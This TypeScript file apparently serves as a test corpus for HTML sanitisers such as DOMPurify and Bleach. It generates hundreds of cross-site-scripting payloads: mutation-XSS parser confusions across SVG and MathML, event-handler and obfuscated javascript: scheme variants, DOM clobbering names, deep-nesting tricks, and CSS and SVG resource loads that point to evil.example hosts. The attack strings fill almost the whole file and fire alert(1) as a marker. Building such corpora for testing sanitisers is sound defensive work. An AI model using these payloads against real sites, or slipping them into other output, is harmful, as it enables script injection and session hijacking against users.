/**
 * Markup against sanitisers: what gets past one that reads otherwise than a browser does. By hand, after public reports
 * on DOMPurify (2.0.0 to 3.2.x), sanitize-html, js-xss, Closure, Bleach, lxml, nh3, Caja, TinyMCE, Gmail and Google
 * Search, PortSwigger's cheat sheet, html5sec.org, and the standard's own list of parse errors (read 2026-11); and in
 * families, each of which varies one thing that a sanitiser has to get right everywhere: the element that starts
 * another way of parsing, the handler, the spelling of a scheme, the place of a name, the nesting.
 */
export interface SanitizerPayload {
  readonly family: string;
  readonly payload: string;
}

const run = 'alert(1)';
const img = `<img src=x onerror=${run}>`;

function of(family: string, payloads: readonly string[]): SanitizerPayload[] {
  return payloads.map((payload) => ({ family, payload }));
}

function each<T>(
  family: string,
  values: readonly T[],
  write: (value: T) => string | readonly string[],
): SanitizerPayload[] {
  return of(
    family,
    values.flatMap((value) => write(value)),
  );
}

const list = (names: string): readonly string[] => names.split(' ');

const mutations = of('mutation', [
  `<svg></p><style><a id="</style>${img}">`,
  `<svg></br><style><a title="</style>${img}">`,
  `<math></p><style><!--</style><img title="--&gt;${img}">`,
  `<form><math><mtext></form><form><mglyph><style></math>${img}`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>${img}">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<math><mtext><table><mglyph><style><![CDATA[</style><img title="]]&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${run}&gt;">`,
  `<math><annotation-xml encoding="text/html"><style>${img}</style></annotation-xml></math>`,
  `<math><annotation-xml encoding="application/xhtml+xml"><svg><style>${img}</style></svg></annotation-xml></math>`,
  `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src='x' onerror='${run}'>">`,
  `<svg><foreignObject><math><mi><style>${img}</style></mi></math></foreignObject></svg>`,
  `<svg><desc><table><thead><s></table></s></thead><style><a title="</style>${img}"></style>`,
  `<svg><title><style><img title="</style>${img}"></style></title></svg>`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src='#' onerror='${run}'>"></style></h1>`,
  `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><textarea><a title="</textarea>${img}">`,
  `<svg><style><img title="</style>${img}"></style></svg>`,
  `<svg><p><style><g title="</style>${img}">`,
  `<svg><![CDATA[><image xlink:href="]]>${img}"></svg>`,
  `<svg><![CDATA[</svg>]]>${img}</svg>`,
  `<a href=" &#14;javascript:${run}"><svg><style><!--</style></svg><style>--></style>${img}`,
  `<noscript><p title="</noscript>${img}"></noscript>`,
  `<noscript><style></noscript>${img}</style>`,
  `<noembed><p title="</noembed>${img}"></noembed>`,
  `<noframes><p title="</noframes>${img}"></noframes>`,
  `<xmp><p title="</xmp>${img}"></xmp>`,
  `<iframe><p title="</iframe>${img}"></iframe>`,
  `<plaintext>${img}</plaintext>`,
  `<listing>&lt;img onerror=${run} src=x&gt;</listing>`,
  `<textarea><p title="</textarea>${img}"></textarea>`,
  `<title><p title="</title>${img}"></title>`,
  `<select><template><p title="</template></select>${img}"></template></select>`,
  `<select><style></select>${img}</style>`,
  `<select><iframe><select>${img}</iframe></select>`,
  `<template><s><template><s>${img}</s>${img}</template></s></template>`,
  `<template><div></template>${img}`,
  `<table><tr><td></table><style><p title="</style>${img}"></style>`,
  `<table><style><a title="</style>${img}">`,
  `<table><caption><svg><style></caption>${img}</style></svg>`,
  `<p><table><p></table><svg><style></p>${img}`,
  `<b><p></b><svg><style></p>${img}`,
  `<a><table><a href=javascript:${run}>x</a></table></a>`,
  `<nobr><nobr><svg><style></nobr>${img}`,
  `<button><p><button></p><svg><style>${img}`,
  `<option><style></option></select>${img}</style>`,
  `<x/><title>&lt;/title&gt;${img}`,
  `<div id=x></div><img title="&lt;/template><img src=x onerror=${run}>">`,
  `x<noscript>&lt;/noscript&gt;${img}`,
  `<image><image><style><a title="</style>${img}">`,
  `<isindex prompt="</form>${img}">`,
  `<ruby><rtc><rt><svg><style></ruby>${img}`,
  `<svg><font color=x><style></svg>${img}`,
  `<svg><font><style></svg>${img}`,
  `<svg></svg></p><style><a id="</style>${img}">`,
  `<math><mi><b><malignmark><style></math>${img}`,
  `<math><mo><malignmark><table><style></math>${img}`,
  `<math><ms><svg><mglyph><style></math>${img}`,
  `<frameset><frame></frameset><svg><style>${img}`,
  `<body><svg><body onload=${run}><style>${img}`,
  `<html><svg><html onload=${run}>`,
  `<head><style><p title="</style>${img}"></head>`,
  `<svg/><svg/></svg><style>${img}`,
  `<!doctype html [<!ENTITY x "${img}">]>&x;${img}`,
  `<?xml version="1.0"?>${img}`,
  `<?xml >"${img}?>`,
  `<!${img}>`,
  `</ ${img}>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<!---><img src=x onerror=${run}>-->`,
  `<!-- --!>${img}-->`,
  `<!-- <!-- -->${img}-->`,
  `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
  `<![CDATA[<!--]]>${img}-->`,
  `<![if !IE]>${img}<![endif]>`,
  `<% ${img} %>`,
  `<#if x>${img}`,
  `<comment>${img}</comment>`,
  `<svg><script>&lt;/script>${run}</script>`,
  `<svg><script>a<!--</script>${img}`,
  `<script><!--<script></script>${img}--></script>`,
  `<script>"<!--<script>"</script>${img}`,
  `<style><!--</style>${img}--></style>`,
  `<style>@import'javascript:${run}'</style>`,
  `<div style="x:'</style>${img}'">`,
]);

const rawText = list(
  'script style xmp iframe noembed noframes noscript plaintext textarea title template select',
);
const foreign = list('svg math');
const integration = list('mi mo mn ms mtext annotation-xml foreignObject desc title');
const breakouts = list(
  'b big blockquote body br center code dd div dl dt em embed h1 hr i img li listing menu meta nobr ol p pre ruby s ' +
    'small span strong strike sub sup table tt u ul var',
);
const structure = list(
  'table tr td caption colgroup select option p a b nobr button form li ruby template frameset',
);

const families = [
  ...each('raw text, closed in an attribute', rawText, (tag) => [
    `<${tag}><p title="</${tag}>${img}"></${tag}>`,
    `<p title="<${tag}>"></p><p title="</${tag}>${img}">`,
    `<${tag}><!--</${tag}>${img}-->`,
    `<${tag.toUpperCase()}/x>&lt;/${tag}&gt;${img}`,
  ]),
  ...foreign.flatMap((root) =>
    each(`raw text in ${root}`, rawText, (tag) => [
      `<${root}><${tag}><a title="</${tag}>${img}">`,
      `<${root}><${tag}>${img}</${tag}></${root}>`,
      `<${root}></p><${tag}><a title="</${root}></${tag}>${img}">`,
    ]),
  ),
  ...foreign.flatMap((root) =>
    each(`out of ${root} by an element of HTML`, breakouts, (tag) => [
      `<${root}><${tag}><style><a title="</style>${img}">`,
      `<${root}><g><${tag} onclick=${run} title="</${root}>${img}">`,
    ]),
  ),
  ...integration.flatMap((point) =>
    each(`HTML inside of ${point}`, rawText, (tag) => [
      `<math><${point} encoding=text/html><${tag}><img title="</${tag}>${img}">`,
      `<svg><${point}><${tag}><img title="</${tag}>${img}">`,
    ]),
  ),
  ...structure.flatMap((outer) =>
    each(`what the parser moves out of ${outer}`, structure, (inner) => [
      `<${outer}><${inner}><svg><style></${outer}><a title="</style>${img}">`,
    ]),
  ),
  ...each(
    'a handler',
    list(
      'abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut ' +
        'beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload begin blur bounce cancel canplay ' +
        'canplaythrough change click close command contentvisibilityautostatechange contextlost contextmenu ' +
        'contextrestored copy cuechange cut dblclick drag dragend dragenter dragexit dragleave dragover dragstart drop ' +
        'durationchange emptied end ended error finish focus focusin focusout formdata fullscreenchange gesturestart ' +
        'gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata loadedmetadata loadstart ' +
        'location lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup ' +
        'mousewheel offline online pagehide pageshow paste pause play playing pointercancel pointerdown pointerenter ' +
        'pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress ratechange repeat ' +
        'reset resize scroll scrollend scrollsnapchange search securitypolicyviolation seeked seeking select ' +
        'selectionchange selectstart show slotchange stalled start storage submit suspend timeupdate toggle touchcancel ' +
        'touchend touchmove touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection ' +
        'unload volumechange waiting webkitanimationend webkittransitionend wheel',
    ),
    (event) => [
      `<p on${event}=${run}>x</p>`,
      `<a href="/" ON${event.toUpperCase()}\n=\n"${run}">x</a>`,
      `<svg on${event}="${run}"><path d="M0 0" on${event}="${run}"/></svg>`,
    ],
  ),
  ...each(
    'a scheme, in a link and an image',
    [
      `javascript:${run}`,
      `JavaScript:${run}`,
      `\u0001javascript:${run}`,
      `java\tscript:${run}`,
      `java&#x0A;script:${run}`,
      `javascript&colon;${run}`,
      `javascript&#58;${run}`,
      `&#106;avascript:${run}`,
      `&#0000106;avascript:${run}`,
      `&#x6Aavascript:${run}`,
      `javascript&Tab;:${run}`,
      `&NewLine;javascript:${run}`,
      `javascript://%0a${run}`,
      `javascript:/*-->*/${run}`,
      `vbscript:msgbox(1)`,
      `livescript:${run}`,
      `data:text/html,<script>${run}</script>`,
      `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
      `data:image/svg+xml,<svg onload=${run}>`,
      `data:application/xhtml+xml,<x/>`,
      `DATA:;charset=utf-8,${run}`,
      `blob:https://example.com/x`,
      `filesystem:https://example.com/x`,
      `file:///etc/passwd`,
      `view-source:javascript:${run}`,
      `feed:javascript:${run}`,
      `jar:javascript:${run}!`,
      `about:blank`,
      `intent://x#Intent;scheme=javascript;end`,
      `ms-its:x`,
    ],
    (url) => [
      `<a href="${url}">x</a>`,
      `<img src="${url}" alt=x>`,
      `<svg><a xlink:href="${url}"><text>x</text></a><use href="${url}"/><image href="${url}"/></svg>`,
      `<blockquote cite="${url}">x</blockquote><form action="${url}"><button formaction="${url}">x</button></form>`,
      `<div style="background-image:url(${url})">x</div><table background="${url}"><td background="${url}">x</table>`,
    ],
  ),
  ...each(
    'a name that shadows the page (clobbering)',
    list(
      'body cookie createElement defaultView documentElement forms getElementById head images location parentNode ' +
        'attributes childNodes firstChild innerHTML nodeName ownerDocument querySelector self top window name __proto__ ' +
        'constructor toString hasOwnProperty ALLOWED_ATTR config',
    ),
    (name) => [
      `<a id=${name}></a><a id=${name} name=x href="https://example.com/">y</a>`,
      `<form name=${name}><input name=${name}><output id=${name}>x</form>`,
      `<img name=${name} src=/x id=${name}><p id="${name}" class="${name}">x</p>`,
    ],
  ),
  ...each(
    'styles',
    [
      'background:url(javascript:alert(1))',
      'background:url("https://evil.example/x")',
      'background-image:image-set("https://evil.example/x" 1x)',
      'background:\\75rl(https://evil.example/x)',
      'width:expression(alert(1))',
      'width:exp/**/ression(alert(1))',
      'behavior:url(x.htc)',
      '-moz-binding:url(x.xml#x)',
      'position:fixed;top:0;left:0;width:100%;height:100%',
      'color:red;position:absolute',
      'color:red}body{display:none',
      'color:red;/*;position:fixed;*/position:sticky',
      'font-family:"x;position:fixed"',
      "font-family:'x\\';position:fixed;'",
      'color:rgb(0,0,0;position:fixed)',
      'list-style:url(https://evil.example/)',
      'content:url(https://evil.example/)',
      'cursor:url(https://evil.example/),auto',
      'filter:url(#x)',
      'color:attr(title)',
      'color:var(--x);--x:red',
      'margin:-999px',
      'transform:scale(100)',
      'animation:x 1s',
      '@import "https://evil.example/"',
      'background:#fff url( //evil.example/x )',
      'border-image:url(//evil.example/x)',
      'color:red!important;z-index:9999',
    ],
    (style) => [
      `<p style='${style.replaceAll("'", '&#39;')}'>x</p>`,
      `<table style='${style.replaceAll("'", '&#39;')}'><tr><td style='${style.replaceAll("'", '&#39;')}'>x</table>`,
      `<svg><path style='${style.replaceAll("'", '&#39;')}' fill='${style.replaceAll("'", '&#39;')}' d="M0 0"/></svg>`,
    ],
  ),
  ...each(
    'pictures',
    [
      `<script>${run}</script>`,
      `<script href="data:,${run}"/>`,
      `<foreignObject><img src=x onerror=${run}></foreignObject>`,
      `<foreignObject><iframe srcdoc="<script>parent.${run}</script>"></iframe></foreignObject>`,
      `<animate attributeName=href values="javascript:${run}"/>`,
      `<a><set attributeName=href to="javascript:${run}"/><text>x</text></a>`,
      `<animate onbegin=${run} attributeName=x dur=1s />`,
      `<animateTransform onend=${run} attributeName=x dur=1s />`,
      `<animateMotion onrepeat=${run} dur=1s />`,
      `<discard onbegin=${run} />`,
      `<use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/>`,
      `<use href="https://evil.example/x.svg#x"/>`,
      `<use xlink:href="//evil.example/x.svg#x"/>`,
      `<image href="https://evil.example/x.png"/>`,
      `<feImage href="https://evil.example/x.svg"/>`,
      `<filter id=f><feImage xlink:href="https://evil.example/"/></filter><rect filter="url(#f)"/>`,
      `<rect fill="url(https://evil.example/x#y)" width="1" height="1"/>`,
      `<rect style="fill:url(//evil.example/#y)" width="1" height="1"/>`,
      `<style>@import "https://evil.example/";</style>`,
      `<style>*{background:url(https://evil.example/)}</style>`,
      `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${run}</handler>`,
      `<listener event="load" handler="#x"/>`,
      `<title><img src=x onerror=${run}></title>`,
      `<desc><style><img src=x onerror=${run}></style></desc>`,
      `<text>a</text><p>${img}</p>`,
      `<g onclick=${run}><rect onload=${run} width="1" height="1"/></g>`,
      `<metadata><img src=x onerror=${run}></metadata>`,
      `<switch><foreignObject>${img}</foreignObject></switch>`,
      `<tref xlink:href="https://evil.example/#x"/>`,
      `<textPath href="https://evil.example/#x">x</textPath>`,
      `<linearGradient id=a href="https://evil.example/#x"/>`,
      `<view id=x viewTarget=y /><cursor xlink:href="//evil.example/"/>`,
      `<font-face-uri xlink:href="//evil.example/"/>`,
      `<video><source onerror=${run}></video>`,
    ],
    (inner) => [
      `<svg xmlns="http://www.w3.org/2000/svg">${inner}</svg>`,
      `<svg><g>${inner}</g></svg>`,
      `<?xml version="1.0"?><!DOCTYPE svg><svg><defs>${inner}</defs></svg>`,
    ],
  ),
  ...each(
    'deep, so that a browser moves it',
    [99, 100, 101, 199, 255, 256, 300, 500, 511, 512, 513, 600],
    (depth) => [
      `${'<div>'.repeat(depth)}<svg><style><a title="</style>${img}">`,
      `${'<b>'.repeat(depth)}<table><svg><style></table><a title="</style>${img}">`,
      `${'<svg>'.repeat(Math.min(depth, 150))}<foreignObject><style><a title="</style>${img}">`,
    ],
  ),
  ...each(
    'a list of images, and what is taken for a bitmap',
    [
      `srcset="javascript:${run} 1x"`,
      `srcset="data:text/html,<script>${run}</script> 1x, data:image/svg+xml;base64,PHN2Zz4= 2x"`,
      `srcset="x 1x&quot; onerror=${run} y 2x"`,
      `srcset=", ,,javascript:${run},, 2x" sizes="1px&quot; onload=${run}"`,
      `srcset="data:image/png;base64,AAAA&quot;onerror=${run}&quot; 1x"`,
      `sizes="&quot;><script>${run}</script>" srcset="/&quot;><script>${run}</script> 1w"`,
      `width="1px&quot;onerror=${run}" height='1"onerror=${run} px'`,
      `loading="lazy&quot; onerror=${run}" decoding="async' onerror=${run}"`,
      `alt="${'x'.repeat(1020)}&quot;&gt;<script>${run}</script>" src=/y`,
    ],
    (attributes) => `<img src=x ${attributes}>`,
  ),
  ...each(
    'a bitmap that is another document',
    [
      'data:image/jpg;charset=utf-7;base64,K0FEdy1zdmc',
      `data:image/jpg;x="</p>${img}";base64,AAAA`,
      'data:image/png;base64,%3Csvg%20onload=alert(1)%3E',
      'data:image/svg+xml;image/jpg;base64,PHN2Zz4=',
      'data:image/jpg;text/html;charset=x;base64,PHNjcmlwdD4=',
      'data:image/jpg&#x2c;<svg onload=alert(1)>;base64,AAAA',
    ],
    (url) => [`<img src='${url}'>`, `<a href='${url}'>x</a>`],
  ),
  ...each(
    'a landmark, and an element of an old page',
    list('search nav main hgroup data strike big tt'),
    (tag) => [
      `<${tag} onclick=${run} style="position:fixed" id=x>${img}</${tag}>`,
      `<p><${tag}><p>${img}</${tag}><svg><${tag}><style><!--</style>${img}`,
      `<ul><li><${tag}><li>${img}</${tag}></ul>`,
      `<b><${tag}><table>${img}</${tag}></b>x`,
      `<${tag}><style><a title="</style>${img}"></${tag}>`,
    ],
  ),
  ...each(
    'out of where the output is pasted',
    list('textarea noscript svg template xmp style title math select table'),
    (tag) => [
      `</${tag}>${img}`,
      `<p title="</${tag}>${img}">x</p>`,
      `<a href="/</${tag}>${img}">x</a>`,
      `<code class="language-</${tag}>${img}">x</code>`,
      `&lt;/${tag}&gt;&lt;img src=x onerror=${run}&gt;`,
    ],
  ),
];

export const sanitizerXss: readonly SanitizerPayload[] = Object.freeze([...mutations, ...families]);
